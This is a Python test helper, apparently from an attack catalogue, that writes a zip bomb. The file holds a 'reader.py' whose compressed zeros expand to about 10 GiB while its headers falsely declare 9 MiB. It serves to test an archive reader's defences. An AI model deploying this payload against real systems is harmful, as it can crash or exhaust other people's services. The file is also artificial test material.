"""Made lazily: the compressed stream is repeated, not computed."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

from tests.attacks.catalogue import ROOT

RIGHT = (ROOT / "solutions/reader/reader.py").read_bytes()


def make(folder: Path, knowledge: dict[str, str]) -> Path:
    """Write what is handed in."""
    path = folder / "reader.zip"
    size = 10 << 30
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(16 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    data = block * (size // (16 << 20)) + b"\x03\x00"
    declared = 9 << 20  # the directory lies about the size
    fields = (20, 0, 8, 0, 0, 0, len(data), declared, 9, 0)
    local = struct.pack("<4sHHHHHLLLHH", b"PK\3\4", *fields) + b"reader.py"
    central = struct.pack("<4sHHHHHHLLLHHHHHLL", b"PK\1\2", 20, *fields, 0, 0, 0, 0, 0) + b"reader.py"
    end = struct.pack("<4sHHHHLLH", b"PK\5\6", 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    path.write_bytes(local + data + central + end)
    return path
